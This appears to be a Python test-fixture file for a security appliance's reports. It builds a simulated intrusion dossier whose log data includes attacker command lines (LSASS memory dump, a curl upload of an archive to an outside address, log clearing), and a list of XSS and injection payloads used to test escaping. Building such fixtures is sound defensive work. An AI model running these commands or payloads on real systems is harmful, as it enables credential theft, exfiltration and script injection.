"""Dossiers for the tests of the reports: a rich one, an empty one, a hostile one, a huge one."""

from datetime import datetime
from typing import Any, Literal

import msgspec

from appliance.digest import Digest, DigestIncident, SilentSource, TrendSlice, Trouble
from appliance.emit.render import render_time
from appliance.incident import (
    Action,
    Case,
    Chain,
    ChainStage,
    Dossier,
    Evidence,
    Gap,
    NextStep,
    NodeKind,
    Provenance,
    Sentence,
    TechniqueRow,
    TraceEdge,
    TraceNode,
    Visibility,
)
from appliance.schema import Entity, Fold, Incident, Level, Reason, digest

Role = Literal["root", "path", "ancestor", "descendant", "touched"]

#: 2026-03-02 09:00:00 UTC, a Monday.
DAY = 1_772_442_000.0

WS, WS2, FS, DC = "ws-0231", "ws-0188", "fs-01", "dc-01"

#: seconds after DAY, host, level, tactic, technique, title, detector, image, command line, times
STORY: tuple[tuple[int, str, Level, str, str, str, str, str, str, int], ...] = (
    (842, WS, "high", "initial-access", "T1566.001", "Office Document Starts a Shell", "sigma",
     "cmd.exe", "cmd.exe /c powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUA", 1),
    (844, WS, "high", "execution", "T1059.001", "Encoded PowerShell Command Line", "sigma",
     "powershell.exe", "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUA", 3),
    (845, WS, "medium", "execution", "T1059.001", "Command Line Reads Like an Attack", "sentinel",
     "powershell.exe", "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUA", 3),
    (861, WS, "critical", "command-and-control", "T1071.001", "Connection to a Listed Address",
     "indicators", "powershell.exe", "203.0.113.77:443", 6),
    (905, WS, "medium", "persistence", "T1053.005", "Scheduled Task Created by a Shell", "sigma",
     "schtasks.exe", 'schtasks /create /sc minute /mo 30 /tn "OneDrive Sync" /tr C:\\Users\\Public'
     "\\od.exe", 1),
    (1210, WS, "low", "discovery", "T1087.002", "Domain Accounts Listed", "sigma", "net.exe",
     'net group "Domain Admins" /domain', 4),
    (1215, WS, "low", "discovery", "T1018", "Remote Systems Listed", "sigma", "nltest.exe",
     "nltest /dclist:ministry.example", 2),
    (1300, WS, "informational", "discovery", "T1033", "Whoami Run", "sigma", "whoami.exe",
     "whoami /all", 5),
    (1504, WS, "critical", "credential-access", "T1003.001", "LSASS Memory Dumped", "sigma",
     "rundll32.exe", "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 648 C:\\Users\\Public"
     "\\l.dmp full", 2),
    (1507, WS, "high", "credential-access", "T1003.001", "Suspicious Process Tree", "sentinel",
     "rundll32.exe", "rundll32 comsvcs.dll MiniDump", 2),
    (4300, WS2, "medium", "lateral-movement", "T1021.002", "Admin Share Used From a Workstation",
     "sigma", "services.exe", "\\\\ws-0188\\ADMIN$", 3),
    (4309, WS2, "high", "execution", "T1569.002", "Service Started From an Admin Share", "sigma",
     "psexesvc.exe", "C:\\Windows\\PSEXESVC.exe", 1),
    (4402, WS2, "low", "discovery", "T1083", "Many Files Listed", "anomaly", "cmd.exe",
     "cmd.exe /c dir \\\\fs-01\\protocols /s", 4),
    (26_100, FS, "medium", "lateral-movement", "T1021.002", "Admin Share Used From a Workstation",
     "sigma", "services.exe", "\\\\fs-01\\C$", 4),
    (26_180, FS, "high", "collection", "T1560.001", "Archive With a Password Made", "sigma",
     "7z.exe", "7z a -p -mhe C:\\PerfLogs\\upd.7z D:\\protocols\\*", 5),
    (26_900, FS, "high", "exfiltration", "T1048", "Large Upload to a New Address", "suricata",
     "7z.exe", "198.51.100.23:443", 4),
    (27_600, DC, "critical", "credential-access", "T1003.006", "Directory Replication by a User",
     "sigma", "lsass.exe", "DS-Replication-Get-Changes-All by svc-backup", 3),
    (27_640, DC, "high", "persistence", "T1136.002", "Domain Account Created", "sigma",
     "net.exe", "net user helpdesk2 /add /domain", 1),
    (27_702, DC, "high", "defense-evasion", "T1070.001", "Event Log Cleared", "sigma",
     "wevtutil.exe", "wevtutil cl Security", 2),
)  # fmt: skip

NAMES = {
    "T1566.001": "Spearphishing Attachment",
    "T1059.001": "PowerShell",
    "T1071.001": "Web Protocols",
    "T1053.005": "Scheduled Task",
    "T1087.002": "Domain Account",
    "T1018": "Remote System Discovery",
    "T1033": "System Owner/User Discovery",
    "T1003.001": "LSASS Memory",
    "T1021.002": "SMB/Windows Admin Shares",
    "T1569.002": "Service Execution",
    "T1083": "File and Directory Discovery",
    "T1560.001": "Archive via Utility",
    "T1048": "Exfiltration Over Alternative Protocol",
    "T1003.006": "DCSync",
    "T1136.002": "Domain Account",
    "T1070.001": "Clear Windows Event Logs",
}


def make_body(
    number: int,
    time: float,
    host: str,
    level: str,
    title: str,
    *,
    tactics: tuple[str, ...] = (),
    techniques: tuple[str, ...] = (),
    detector: str = "sigma",
    value: str = "",
    names: dict[str, str] = NAMES,
) -> dict[str, Any]:
    """A finding's body as `scan --out` has it."""
    key = digest("finding", str(number), ascii(title[:200]))
    doubt = detector == "sentinel"
    return {
        "id": key,
        "time": render_time(time),
        "host": host,
        "detector": detector,
        "rule_id": f"rule-{title.lower().replace(' ', '-')[:40]}",
        "title": title,
        "level": level,
        "score": 1.0,
        "techniques": list(techniques),
        "tactics": list(tactics),
        "logsource": {"product": "windows", "category": "process_creation", "service": None},
        "source": {"name": "winsec", "path": f"/srv/logs/{host}.evtx", "record": 4000 + number},
        "entities": [{"kind": "host", "value": host}],
        "matched": [{"field": "CommandLine", "value": value, "pattern": value[:12]}],
        "verdict": "suspicious",
        "verdicts": [
            {"expert": "knowledge", "label": "suspicious", "confidence": 0.7,
             "reason": "the rule names this technique", "citations": list(techniques)},
            {"expert": "detection", "label": "benign" if doubt else "true_positive",
             "confidence": 0.62 if doubt else 0.9,
             "reason": "the backup agent runs such command lines, too" if doubt
             else "the parent process does not start shells here", "citations": []},
        ],
        "citations": [
            {"id": t, "title": names.get(t, t), "score": 1.0, "reason": "tag"} for t in techniques
        ],
        "incident": "ab" * 16,
        "event": {"id": digest("event", str(number)), "received": render_time(time + 1),
                  "format": "evtx", "length": 812, "stream": f"{host}.evtx", "mapped": True,
                  "time_known": True},
        "rule": {"path": "rules/x.yml", "line": 1, "hash": digest("rule", ascii(title[:200]))},
    }  # fmt: skip


def build_rich() -> Dossier:
    """An intrusion over four hosts in eight hours: 56 findings, 43 nodes, gaps, next steps."""
    findings: list[dict[str, Any]] = []
    for begin, host, level, tactic, technique, title, detector, _, value, times in STORY:
        for turn in range(times):
            findings.append(
                make_body(
                    len(findings), DAY + begin + turn * 47, host, level, title,
                    tactics=(tactic,), techniques=(technique,), detector=detector, value=value,
                )
            )  # fmt: skip
    findings.sort(key=lambda body: str(body["time"]))
    ids = {title: [str(b["id"]) for b in findings if b["title"] == title] for title in
           {body["title"] for body in findings}}  # fmt: skip
    first = {title: keys[0] for title, keys in ids.items()}
    incident = Incident(
        id="ab" * 16,
        number=412,
        status="open",
        level="critical",
        title="LSASS Memory Dumped, then Directory Replication by a User, on 4 hosts",
        entities=tuple(
            [Entity("host", name) for name in (WS, WS2, FS, DC)]
            + [Entity("user", u) for u in ("m.keller", "svc-backup", "helpdesk2")]
            + [Entity("address", a) for a in ("203.0.113.77", "198.51.100.23", "10.20.4.31")]
            + [Entity("domain", "cdn-office-sync.example")]
            + [Entity("process", f"{WS}|powershell.exe|{pid}") for pid in (4120, 4388)]
            + [Entity("hash", "9f2c" * 16)]
            + [Entity("file", p) for p in ("c:\\users\\public\\od.exe", "c:\\perflogs\\upd.7z")]
        ),
        findings=tuple(str(body["id"]) for body in findings),
        count=len(findings) + 1240,
        tactics=("initial-access", "execution", "command-and-control", "credential-access"),
        first_seen=DAY + 842,
        last_seen=DAY + 27_749,
        score=94.0,
        reasons=(
            Reason("level", 30, "4 rules of level critical fired"),
            Reason("stage", 22, "nine stages, up to exfiltration"),
            Reason("spread", 14, "from one workstation to three more hosts in eight hours"),
            Reason("asset", 12, "dc-01 is a domain controller, weight 5"),
            Reason("agreement", 12, "rules, the sentinel and an indicator speak of one process"),
            Reason("rarity", 8, "the address 203.0.113.77 was never seen here before"),
            Reason("expected", -4, "admin shares are used from workstations in 3 % of hours"),
        ),
        folds=(
            *(Fold(
                detector, digest(title), title, level, host, times, DAY + begin,
                DAY + begin + (times - 1) * 47, (technique,), (tactic,),
                0.03 if "Share" in title else 0.0,
            )
            for begin, host, level, tactic, technique, title, detector, _, _, times in STORY),
            Fold("sigma", "r", "Failed Logon", "low", DC, 1240, DAY + 900, DAY + 27000,
                 expected=0.41),
        ),
        techniques=tuple(NAMES),
        detectors=("sigma", "sentinel", "indicators", "suricata", "anomaly"),
    )  # fmt: skip
    return Dossier(
        incident=incident,
        case=Case(incident.id, "acknowledged", "r.brandt", changed=DAY + 30_400),
        actions=_make_actions(incident.id),
        findings=tuple(findings),
        findings_left_out=1240,
        evidence=tuple(_make_evidence(number, body) for number, body in enumerate(findings)),
        provenance=_make_provenance(findings, first),
        chain=_make_chain(findings, first),
        techniques=tuple(
            TechniqueRow(
                t, name, tuple({s[3]: 0 for s in STORY if s[4] == t}),
                tuple(str(b["id"]) for b in findings if t in b["techniques"]),
                tuple(dict.fromkeys(s[5] for s in STORY if s[4] == t)),
            )
            for t, name in NAMES.items()
        ),
        visibility=(
            Visibility("winsec", 182_400, 0, 0, 41_210, (WS, WS2, FS, DC), DAY + 30_300,
                       ((DAY + 27_720, DAY + 30_100),)),
            Visibility("suricata", 96_311, 14, 220, 5_011, (FS, WS), DAY + 30_390),
            Visibility("proxy", 0, 0, 0, 0, (), 0.0, ((DAY, DAY + 30_400),)),
            Visibility("fileserver-audit", 12_077, 3, 0, 803, (FS,), DAY + 30_200),
        ),
        summary=(
            Sentence("At 09:14 on 2 March a document opened by m.keller on ws-0231 started a hidden"
                     " PowerShell, which connected to 203.0.113.77, a listed address.",
                     (first["Office Document Starts a Shell"], first["Encoded PowerShell Command "
                      "Line"], first["Connection to a Listed Address"], "T1566.001")),
            Sentence("Credentials were taken from the memory of LSASS at 09:25.",
                     (first["LSASS Memory Dumped"], "T1003.001")),
            Sentence("With the account svc-backup it went on to ws-0188, fs-01 and dc-01; files of "
                     "the share “protocols” were packed on fs-01 and 2.1 GB left to 198.51.100.23.",
                     (first["Archive With a Password Made"], first["Large Upload to a New Address"],
                      *ids["Admin Share Used From a Workstation"])),
            Sentence("On dc-01 directory secrets were replicated, the account helpdesk2 was made, "
                     "and the Security log was cleared.",
                     (first["Directory Replication by a User"], first["Domain Account Created"],
                      first["Event Log Cleared"], "source:winsec")),
            Sentence("It was surely someone abroad.", ()),
        ),
        questions=(
            Sentence("Which document started it? The mail gateway is not a source here.",
                     (first["Office Document Starts a Shell"], "source:proxy")),
            Sentence("What happened on dc-01 between 16:42 and 17:21, when its log was silent?",
                     (first["Event Log Cleared"], "source:winsec")),
            Sentence("Is helpdesk2 still enabled?", (first["Domain Account Created"],)),
        ),
        made=DAY + 30_600,
        version="0.9.0",
    )  # fmt: skip


def _make_actions(incident: str) -> tuple[Action, ...]:
    rows: tuple[tuple[int, str, str, dict[str, Any]], ...] = (
        (28_100, "r.brandt", "acknowledge", {}),
        (28_160, "r.brandt", "assign", {"to": "r.brandt"}),
        (28_900, "a.vogel", "merge", {"from": "cd" * 16, "because": "same account, same hour"}),
        (29_400, "r.brandt", "note", {"text": "ws-0231 taken off the network by the site"}),
        (30_400, "a.vogel", "suppress", {"scope": "rule=Failed Logon host=dc-01",
                                         "until": "2026-03-03T12:00:00Z",
                                         "because": "vault restarts, ticket 4711"}),
    )  # fmt: skip
    hashes = [digest("audit", str(n)) for n in range(len(rows) + 1)]
    return tuple(
        Action(210 + n, DAY + t, actor, action, incident, details, hashes[n], hashes[n + 1])
        for n, (t, actor, action, details) in enumerate(rows)
    )


def _make_evidence(number: int, body: dict[str, Any]) -> Evidence:
    value = body["matched"][0]["value"]
    if number % 9 == 5:
        return Evidence(str(body["id"]), "", "", "the archive of that hour is past its retention")
    text = (
        f'{{"EventID":1,"Computer":"{body["host"]}.ministry.example","UtcTime":"{body["time"]}",'
        f'"ProcessGuid":"{{1c9f8a3e-{number:04x}-65e2-0d01-000000001500}}","User":"MINISTRY\\\\'
        f'm.keller","CommandLine":"{value}","ParentImage":"C:\\\\Program Files\\\\Microsoft '
        f'Office\\\\root\\\\Office16\\\\WINWORD.EXE","Hashes":"SHA256={"9f2c" * 16}"}}'
    )
    if number % 7 == 3:
        text = (f"type=SYSCALL msg=audit(1772442{number}.112:881): syscall=59 success=yes\n"
                f"type=EXECVE msg=audit(1772442{number}.112:881): argc=2 a0={value!r}")  # fmt: skip
    return Evidence(str(body["id"]), text, "archive" if number % 4 else "file")


#: id, kind, label, host, seconds, role
_NODES: tuple[tuple[str, NodeKind, str, str, int, Role], ...] = (
    ("explorer", "process", "explorer.exe", WS, 100, "ancestor"),
    ("word", "process", 'WINWORD.EXE "C:\\Users\\m.keller\\Downloads\\Einladung_0303.docm"', WS,
     812, "root"),
    ("doc", "file", "C:\\Users\\m.keller\\Downloads\\Einladung_0303.docm", WS, 790, "ancestor"),
    ("cmd", "process", "cmd.exe /c powershell -nop -w hidden -enc SQBFAFgA", WS, 842, "path"),
    ("ps", "process", "powershell.exe -nop -w hidden -enc SQBFAFgAKABOAGUAdwAt", WS, 844, "path"),
    ("c2", "address", "203.0.113.77:443", WS, 861, "path"),
    ("dom", "domain", "cdn-office-sync.example", WS, 860, "touched"),
    ("od", "file", "C:\\Users\\Public\\od.exe", WS, 890, "descendant"),
    ("task", "task", "OneDrive Sync (every 30 minutes)", WS, 905, "descendant"),
    ("run", "registry", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\od", WS, 911,
     "touched"),
    ("dump", "process", "rundll32.exe comsvcs.dll, MiniDump 648 C:\\Users\\Public\\l.dmp", WS,
     1504, "path"),
    ("lsass", "process", "lsass.exe", WS, 1505, "touched"),
    ("dmp", "file", "C:\\Users\\Public\\l.dmp", WS, 1507, "touched"),
    ("svcb", "session", "svc-backup from 10.20.4.31 (type 3)", WS2, 4300, "path"),
    ("psexe", "service", "PSEXESVC", WS2, 4305, "path"),
    ("psexe2", "process", "C:\\Windows\\PSEXESVC.exe", WS2, 4309, "path"),
    ("cmd2", "process", "cmd.exe /c dir \\\\fs-01\\protocols /s", WS2, 4402, "path"),
    ("ses3", "session", "svc-backup from ws-0188 (type 3)", FS, 26_100, "path"),
    ("zip", "process", "7z.exe a -p -mhe C:\\PerfLogs\\upd.7z D:\\protocols\\*", FS, 26_180,
     "path"),
    ("arc", "file", "C:\\PerfLogs\\upd.7z", FS, 26_300, "path"),
    ("up", "process", "curl.exe -T C:\\PerfLogs\\upd.7z https://198.51.100.23/", FS, 26_890,
     "path"),
    ("out", "address", "198.51.100.23:443", FS, 26_900, "path"),
    ("ses4", "session", "svc-backup from fs-01 (type 3)", DC, 27_590, "path"),
    ("sync", "process", "lsass.exe (directory replication)", DC, 27_600, "path"),
    ("net", "process", "net.exe user helpdesk2 /add /domain", DC, 27_640, "descendant"),
    ("user2", "user", "helpdesk2", DC, 27_641, "descendant"),
    ("wev", "process", "wevtutil.exe cl Security", DC, 27_702, "descendant"),
)  # fmt: skip

_EDGES: tuple[tuple[str, str, str], ...] = (
    ("explorer", "word", "started"), ("word", "doc", "read"), ("word", "cmd", "started"),
    ("cmd", "ps", "started"), ("ps", "c2", "connected to"), ("ps", "dom", "asked for"),
    ("ps", "od", "wrote"), ("ps", "task", "created"), ("task", "od", "runs"),
    ("ps", "run", "set"), ("ps", "dump", "started"), ("dump", "lsass", "read memory of"),
    ("dump", "dmp", "wrote"), ("ps", "svcb", "logged on as"), ("svcb", "psexe", "installed"),
    ("psexe", "psexe2", "started"), ("psexe2", "cmd2", "started"), ("psexe2", "ses3",
     "logged on as"), ("ses3", "zip", "started"), ("zip", "arc", "wrote"), ("ses3", "up",
     "started"), ("up", "arc", "read"), ("up", "out", "sent to"), ("ses3", "ses4", "logged on as"),
    ("ses4", "sync", "asked"), ("ses4", "net", "started"), ("net", "user2", "created"),
    ("ses4", "wev", "started"),
)  # fmt: skip


def _make_provenance(findings: list[dict[str, Any]], first: dict[str, str]) -> Provenance:
    by_image = {
        "cmd": ["Office Document Starts a Shell"], "ps": ["Encoded PowerShell Command Line",
        "Command Line Reads Like an Attack"], "c2": ["Connection to a Listed Address"],
        "task": ["Scheduled Task Created by a Shell"], "dump": ["LSASS Memory Dumped",
        "Suspicious Process Tree"], "psexe2": ["Service Started From an Admin Share"],
        "svcb": ["Admin Share Used From a Workstation"], "zip": ["Archive With a Password Made"],
        "out": ["Large Upload to a New Address"], "sync": ["Directory Replication by a User"],
        "net": ["Domain Account Created"], "wev": ["Event Log Cleared"],
    }  # fmt: skip
    found = {key: tuple(str(b["id"]) for b in findings if b["title"] in titles)
             for key, titles in by_image.items()}  # fmt: skip
    nodes = [
        TraceNode(
            key, kind, label, host, DAY + t, DAY + t + 60,
            (("User", "MINISTRY\\m.keller"), ("ProcessId", str(4000 + n))) if kind == "process"
            else (),
            found.get(key, ()), (digest("told", key),), role,
        )
        for n, (key, kind, label, host, t, role) in enumerate(_NODES)
    ]  # fmt: skip
    edges = [
        TraceEdge(a, b, verb, next(n.first for n in nodes if n.id == b), 1, (digest("told", b),))
        for a, b, verb in _EDGES
    ]
    for n in range(7):
        key = f"who{n}"
        nodes.append(
            TraceNode(
                key,
                "process",
                "whoami.exe /all",
                WS,
                DAY + 1300 + n,
                DAY + 1301,
                (),
                (first["Whoami Run"],),
                (digest(key),),
                "descendant",
            )
        )
        edges.append(TraceEdge("ps", key, "started", DAY + 1300 + n))
    for n in range(9):
        key = f"doc{n}"
        nodes.append(
            TraceNode(
                key,
                "file",
                f"D:\\protocols\\2026\\{n:02d}.docx",
                FS,
                DAY + 26_190 + n,
                DAY + 26_200,
                (),
                (),
                (digest(key),),
                "touched",
            )
        )
        edges.append(TraceEdge("zip", key, "read", DAY + 26_190 + n))
    return Provenance(
        tuple(nodes), tuple(edges), ("word",), (WS, WS2, FS, DC),
        (
            Sentence("The root cause is WINWORD.EXE on ws-0231, opened by m.keller at 09:13:32 with"
                     " a document from the Downloads folder.", (digest("told", "word"),)),
            Sentence("From there it came to ws-0188 after 57 minutes, to fs-01 after 7 hours and to"
                     " dc-01 after 7 hours and 26 minutes.",
                     (digest("told", "svcb"), digest("told", "ses3"), digest("told", "ses4"))),
        ),
        (Sentence("Who wrote Einladung_0303.docm is not known: no event tells of it.",
                  (digest("told", "doc"),)),),
        12,
    )  # fmt: skip


def _make_chain(findings: list[dict[str, Any]], first: dict[str, str]) -> Chain:
    stages: dict[str, list[dict[str, Any]]] = {}
    for body in findings:
        stages.setdefault(body["tactics"][0], []).append(body)
    times = {b["id"]: datetime.fromisoformat(b["time"]).timestamp() for b in findings}
    built = [
        ChainStage(
            tactic,
            min(times[b["id"]] for b in bodies),
            max(times[b["id"]] for b in bodies),
            tuple(dict.fromkeys(b["host"] for b in bodies)),
            tuple(dict.fromkeys(t for b in bodies for t in b["techniques"])),
            tuple(b["id"] for b in bodies),
            len(bodies),
        )
        for tactic, bodies in stages.items()
    ]
    return Chain(
        tuple(sorted(built, key=lambda stage: stage.first)),
        (
            Gap(WS2, DAY + 5_000, DAY + 25_600, Sentence(
                "No data from ws-0188 between 10:23 and 16:06; it had spoken every minute before.",
                ("source:winsec",))),
            Gap(DC, DAY + 27_720, DAY + 30_100, Sentence(
                "No data from dc-01 between 16:42 and 17:21, after its Security log was cleared.",
                ("source:winsec", first["Event Log Cleared"]))),
            Gap("source:proxy", DAY, DAY + 30_400, Sentence(
                "The proxy gave nothing all day: what went through it is not known.",
                ("source:proxy",))),
        ),
        (
            NextStep("T1486", "Data Encrypted for Impact", "impact", 0.34, 112, 3.1,
                     ("winsec", "fileserver-audit"),
                     ("Many Files Renamed by One Process", "Shadow Copies Deleted"),
                     ("T1486", "T1003.006")),
            NextStep("T1558.001", "Golden Ticket", "credential-access", 0.21, 112, 5.4,
                     ("winsec",), (), ("T1558.001",)),
            NextStep("T1567.002", "Exfiltration to Cloud Storage", "exfiltration", 0.18, 112, 2.2,
                     (), (), ("T1567.002",)),
        ),
    )  # fmt: skip


def build_empty() -> Dossier:
    """An incident of which almost nothing is known: one finding, whose record is gone."""
    body = make_body(1, DAY, "printer-3", "low", "Odd Printer Job")
    incident = Incident(
        "0c" * 16, 7, "open", "low", "Odd Printer Job", (), (str(body["id"]),), 1, (), DAY, DAY
    )
    return Dossier(
        incident, Case(incident.id), (), (body,), 0, (), Provenance(), Chain(), (), (), (), (),
        DAY + 60, "0.9.0",
    )  # fmt: skip


#: What a log may hold to get out of its place.
ATTACKS = (
    "<script>document.title='PWNED'</script>",
    '"><img src=x onerror="document.title=\'PWNED\'">',
    "' onmouseover='document.title=1' x='",
    "]]><script>document.title='PWNED'</script>",
    "</style><script>document.title='PWNED'</script>",
    "</title></svg></pre></details><h1>FORGED HEADING</h1>",
    "<svg onload=document.title='PWNED'><use href='http://198.51.100.9/x.svg#a'/></svg>",
    "body{background:url(http://198.51.100.9/x.png)} @import 'http://198.51.100.9/x.css';",
    "<meta http-equiv=refresh content='0;url=http://198.51.100.9/'>",
    "<iframe src=http://198.51.100.9/></iframe><link rel=stylesheet href=http://198.51.100.9/>",
    "<base href=http://198.51.100.9/><form action=http://198.51.100.9/><input>",
    "report\u202efdp.exe\u2066 \u200b\u200f zero\ufeffwidth",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07 \x00NUL\x00 \r\nforged line\n\u2028next",
    "javascript:alert(1) [x](http://198.51.100.9/) ![y](http://198.51.100.9/z.png) | a | b |",
    "<!-- --> &lt;b&gt; &#x3c;script&#x3e; &colon; `code` ``` *bold* _it_ # head http://e.vil",
    "\ud800 lone \udcff surrogate",
    "Z\u0351\u036b\u0343\u036a\u0302\u0364\u0351\u0316\u0317\u0318\u0319\u031c\u031d\u031e alg",
    "عربي שלום 漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字 🙂🙂🙂🙂🙂🙂🙂🙂🙂",
    "A" * 1_000_000,
    "\x00" * 1_000_000,
    "<" * 1_000_000,
)


def build_hostile() -> Dossier:
    """Every text that can come from a log is an attack, in every place where one can stand."""
    rich = build_rich()

    def attack(number: int) -> str:
        return ATTACKS[number % len(ATTACKS)]

    levels = ("critical", "high", "medium", "low", "informational")
    findings = tuple(
        {
            **make_body(
                n, DAY + 60 * n, attack(n), levels[n % 5], attack(n + 1), tactics=(attack(n + 2),),
                techniques=(attack(n + 3),), detector=attack(n + 4), value=attack(n + 5), names={},
            ),
            "source": {"name": attack(n + 6), "path": attack(n + 7), "record": n},
            "rule_id": attack(n + 8),
        }
        for n in range(len(ATTACKS))
    )  # fmt: skip
    ids = [str(body["id"]) for body in findings]
    nodes = tuple(
        TraceNode(
            attack(n) + str(n), "process", attack(n), attack(n // 6), DAY + n, DAY + n + 1,
            ((attack(n + 1), attack(n + 2)),), (ids[n],), (digest(str(n)),),
            "root" if n == 0 else "path",
        )
        for n in range(len(ATTACKS))
    )  # fmt: skip
    edges = (
        *(TraceEdge(nodes[n // 2].id, nodes[n].id, attack(n), DAY + n)
          for n in range(1, len(nodes))),
        TraceEdge(nodes[5].id, nodes[0].id, attack(3), DAY),
        TraceEdge("no", "where", "x", DAY),
    )  # fmt: skip
    sentences = tuple(Sentence(text, (attack(n), ids[n])) for n, text in enumerate(ATTACKS))
    replace = msgspec.structs.replace
    return Dossier(
        replace(
            rich.incident, title="".join(ATTACKS[:6]), count=len(findings),
            entities=tuple(Entity("file", text) for text in ATTACKS),
            reasons=tuple(Reason(text, 1.0, text) for text in ATTACKS),
            folds=tuple(Fold(t, t, t, "high", t, 2, DAY, DAY + 1) for t in ATTACKS),
        ),
        replace(rich.case, assignee=ATTACKS[0], note=ATTACKS[1]),
        tuple(replace(a, actor=attack(n), action=attack(n + 1), details={attack(n + 2): attack(n)})
              for n, a in enumerate(rich.actions)),
        findings,
        0,
        tuple(Evidence(key, ATTACKS[n], "archive") for n, key in enumerate(ids)),
        Provenance(nodes, edges, (nodes[0].id,), tuple(ATTACKS[:9]), sentences, sentences, 0),
        Chain(
            tuple(ChainStage(t, DAY + n, DAY + n + 1, (t, t), (t, t), (ids[n],), 1)
                  for n, t in enumerate(ATTACKS)),
            (Gap(attack(0), DAY, DAY + 900, Sentence(attack(4), (attack(5),))),
             Gap(attack(6), DAY, float("inf"), Sentence(attack(7), (attack(8),)))),
            tuple(NextStep(t, t, t, 0.5, 3, 2.0, (t,), (t,), (t,)) for t in ATTACKS),
        ),
        tuple(TechniqueRow(t, t, (t,), (ids[n],), (t,)) for n, t in enumerate(ATTACKS)),
        tuple(Visibility(t, 1, 1, 1, 1, (t,), DAY, ((DAY, DAY + 60),)) for t in ATTACKS),
        sentences,
        sentences,
        DAY,
        "0.9.0",
    )  # fmt: skip


def build_huge() -> Dossier:
    """400 nodes on six hosts: what the picture must fold and cap."""
    rich = build_rich()
    nodes, edges = [], []
    for n in range(400):
        host = f"host-{n // 70}"
        label = ("cmd.exe /c echo %d" if n % 3 else "svchost.exe -k netsvcs -p -s job%d") % n
        found = (str(rich.findings[n % 50]["id"]),) if n % 17 == 0 else ()
        kinds: tuple[Role, ...] = ("path", "descendant", "touched")
        role: Role = "root" if n == 0 else kinds[n % 3]
        nodes.append(TraceNode(f"n{n}", "file" if n % 5 == 4 else "process", label, host, DAY + n,
                               DAY + n + 5, (), found, (digest(str(n)),), role))  # fmt: skip
        if n:
            edges.append(TraceEdge(f"n{(n - 1) // 4}", f"n{n}", "started", DAY + n))
    huge = Provenance(tuple(nodes), tuple(edges), ("n0",), (), rich.provenance.sentences, (), 31)
    return msgspec.structs.replace(rich, provenance=huge)


def build_digest_sample() -> Digest:
    """A night shift with everything in it."""
    slices = []
    for n in range(48):
        routine = 40 + (n * 7) % 23 + (60 if n > 40 else 0)
        slices.append(TrendSlice(DAY + n * 3600, n % 3, 4 + n % 5, routine, 3 if n > 30 else 0))
    rich = build_rich().incident

    def row(number: int, title: str, level: Level, status: str, fresh: int) -> DigestIncident:
        return DigestIncident(
            digest("incident", str(number)), number, title, level, 94.0 - number % 60, status,
            "r.brandt" if status != "open" else "", "benign" if status == "closed" else "",
            "vault restarts, ticket 4711" if status == "closed" else "",
            (WS, FS, DC)[: number % 3 + 1], ("execution", "credential-access")[: number % 2 + 1],
            fresh * 2, fresh, DAY + 50_000, DAY + 60_000 + number,
        )  # fmt: skip

    return Digest(
        since=DAY + 24 * 3600,
        until=DAY + 48 * 3600,
        step=3600.0,
        running=True,
        healthy=False,
        troubles=(
            Trouble("source proxy", "silent for 26 h, it should speak every 10 min", DAY, False),
            Trouble("rules", "3 are refused, see `appliance rules check`", DAY, True),
        ),
        new=(row(412, rich.title, "critical", "acknowledged", 56),
             row(415, "Service Installed From a Temporary Folder", "high", "open", 3)),
        changed=(row(398, "Password Spraying Against the Gateway", "medium", "open", 210),),
        closed=(row(401, "Failed Logon, many", "low", "closed", 40),),
        minor=6,
        routine=1,
        silent=(SilentSource("proxy", DAY - 7200, "silent for 26 h, it should speak every 10 min"),
                SilentSource("badge-readers", None, "it has never given anything")),
        sources=9,
        trend=tuple(slices[24:]),
        earlier=tuple(slices[:24]),
        suppressed=(("vault restarts, ticket 4711", 51),),
        expected=(Fold("sigma", "r", "Failed Logon", "low", DC, 31_240, DAY, DAY + 90_000,
                       expected=0.97),
                  Fold("sigma", "s", "Nightly Vulnerability Scan", "medium", "scanner-1", 8_812,
                       DAY, DAY + 80_000, expected=0.12)),
        rejected=(("suricata", "no JSON: unterminated string", 14), ("winsec", "bad chunk", 2)),
        dropped=(("source netflow", 220), ("table rejected", 1_200)),
        actions=_make_actions(rich.id),
        left_out={"new": 0, "changed": 0, "closed": 0, "incidents": 0, "actions": 0},
        version="0.9.0",
    )  # fmt: skip


def build_empty_digest() -> Digest:
    """A stopped appliance that never found anything."""
    empty = tuple(TrendSlice(DAY + n * 3600) for n in range(24))
    return Digest(
        DAY, DAY + 86_400, 3600.0, False, None, (), (), (), (), 0, 0, (), 0, empty, empty, (), (),
        (), (), (), {}, "0.9.0",
    )  # fmt: skip


def build_hostile_digest() -> Digest:
    """Attacks in every text of a digest."""
    rich = build_digest_sample()
    replace = msgspec.structs.replace
    rows = tuple(
        replace(rich.new[0], title=text, hosts=(text,), tactics=(text,), assignee=text, note=text,
                id=digest(str(n)))
        for n, text in enumerate(ATTACKS)
    )  # fmt: skip
    return replace(
        rich, new=rows, changed=rows, closed=rows,
        troubles=tuple(Trouble(text, text, DAY, False) for text in ATTACKS),
        silent=tuple(SilentSource(text, DAY, text) for text in ATTACKS),
        suppressed=tuple((text, 1) for text in ATTACKS),
        expected=tuple(Fold(t, t, t, "low", t, 1, DAY, DAY) for t in ATTACKS),
        rejected=tuple((text, text, 1) for text in ATTACKS),
        dropped=tuple((text, 1) for text in ATTACKS),
        actions=tuple(replace(rich.actions[0], actor=t, action=t, subject=t, details={t: t})
                      for t in ATTACKS),
    )  # fmt: skip
